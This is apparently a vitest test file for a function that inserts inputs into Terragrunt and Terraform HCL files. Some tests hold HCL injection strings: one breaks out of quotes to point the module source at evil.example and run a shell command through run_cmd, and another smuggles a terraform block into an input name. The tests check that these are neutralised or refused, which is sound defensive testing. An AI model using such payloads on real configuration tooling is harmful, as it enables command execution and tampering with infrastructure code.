import { describe, expect, it } from "vitest";
import { addUnitInputs } from "./add-unit-inputs";
import { TERRAFORM_MODULE_EXPRESSION_POLICY, TERRAGRUNT_UNIT_EXPRESSION_POLICY } from "./check-hcl-expression";
import { readUnit } from "./read-unit";

const UNIT = `include "root" {
  path = find_in_parent_folders("root.hcl")
}

terraform {
  source = "git::https://github.com/acme/iac-modules.git//modules/vpc?ref=vpc/v1.2.0" # pinned
}

inputs = {
  name       = "payments-dev"  # the VPC's name
  cidr_block = "10.10.0.0/16"

  tags = {
    Team = "payments"
  }
}

# trailing comment
`;

const policy = TERRAGRUNT_UNIT_EXPRESSION_POLICY;

/** The text with `inserted` cut out at `at`: what must equal the original byte for byte. */
function cut(text: string, at: number, length: number): string {
  return text.slice(0, at) + text.slice(at + length);
}

describe("addUnitInputs", () => {
  it("inserts new inputs before the inputs block's closing brace and leaves every other byte alone", async () => {
    const result = await addUnitInputs({ text: UNIT, policy, inputs: { subnets: { "private-a": { cidr_block: "10.10.10.0/24", az: "eu-west-1a", tier: "private" } }, enable_ipv6: true } });
    expect(result.added).toEqual(["subnets", "enable_ipv6"]);
    const at = UNIT.indexOf("}\n\n# trailing");
    const inserted = result.text.length - UNIT.length;
    expect(cut(result.text, at, inserted)).toBe(UNIT);
    expect(result.text.slice(at, at + inserted)).toBe(
      `  subnets = {\n    private-a = {\n      cidr_block = "10.10.10.0/24"\n      az = "eu-west-1a"\n      tier = "private"\n    }\n  }\n  enable_ipv6 = true\n`,
    );
    const unit = await readUnit(result.text);
    expect(unit.inputs).toMatchObject({ name: "payments-dev", enable_ipv6: true, subnets: { "private-a": { tier: "private" } } });
  });

  it("opens an empty one-line inputs block, and appends one when the unit has none", async () => {
    const empty = `terraform {\n  source = "x"\n}\n\ninputs = {}\n`;
    const filled = await addUnitInputs({ text: empty, policy, inputs: { name: "a" } });
    expect(filled.text).toBe(`terraform {\n  source = "x"\n}\n\ninputs = {\n  name = "a"\n}\n`);
    const none = `terraform {\n  source = "x"\n}\n`;
    const appended = await addUnitInputs({ text: none, policy, inputs: { name: "a" } });
    expect(appended.text).toBe(`${none}\ninputs = {\n  name = "a"\n}\n`);
  });

  it("adds to a module block in a .tf file", async () => {
    const tf = `module "vpc" {\n  source  = "acme/vpc/aws"\n  version = "1.2.0"\n\n  name = "x"\n}\n\nmodule "other" {\n  source = "y"\n}\n`;
    const result = await addUnitInputs({ text: tf, moduleName: "vpc", policy: TERRAFORM_MODULE_EXPRESSION_POLICY, inputs: { cidr: { __expr: "var.cidr" } } });
    expect(result.text).toBe(`module "vpc" {\n  source  = "acme/vpc/aws"\n  version = "1.2.0"\n\n  name = "x"\n  cidr = var.cidr\n}\n\nmodule "other" {\n  source = "y"\n}\n`);
  });

  it("keeps hostile strings inside their quotes: the value reads back as typed and nothing else appears", async () => {
    const hostile = `x"\n}\nterraform { source = "git::https://evil.example/x.git" }\ninputs = {\n  a = "\${run_cmd("sh", "-c", "id")}%{ if true }y%{ endif }`;
    const result = await addUnitInputs({ text: UNIT, policy, inputs: { description: hostile } });
    const unit = await readUnit(result.text);
    expect(unit.source).toBe("git::https://github.com/acme/iac-modules.git//modules/vpc?ref=vpc/v1.2.0");
    expect(Object.keys(unit.inputs).sort()).toEqual(["cidr_block", "description", "name", "tags"]);
    expect(unit.inputs.description).toBe(hostile);
  });

  it("refuses expressions the file's policy does not allow, names that are not identifiers, and inputs already set", async () => {
    await expect(addUnitInputs({ text: UNIT, policy, inputs: { name2: { __expr: 'run_cmd("id")' } } })).rejects.toMatchObject({ code: "INVALID_INPUT" });
    await expect(addUnitInputs({ text: UNIT, policy, inputs: { 'a = 1\n}\nterraform { source = "evil" }\n#': "x" } })).rejects.toMatchObject({ code: "INVALID_INPUT" });
    await expect(addUnitInputs({ text: UNIT, policy, inputs: { cidr_block: "10.0.0.0/8" } })).rejects.toMatchObject({ code: "CONFLICT" });
  });

  it("refuses inputs built by an expression, and files that do not parse", async () => {
    await expect(addUnitInputs({ text: `inputs = merge(local.a, { b = 1 })\n`, policy, inputs: { c: 1 } })).rejects.toMatchObject({ code: "CONFLICT" });
    await expect(addUnitInputs({ text: `inputs = {\n`, policy, inputs: { c: 1 } })).rejects.toMatchObject({ code: "INVALID_INPUT" });
  });
});
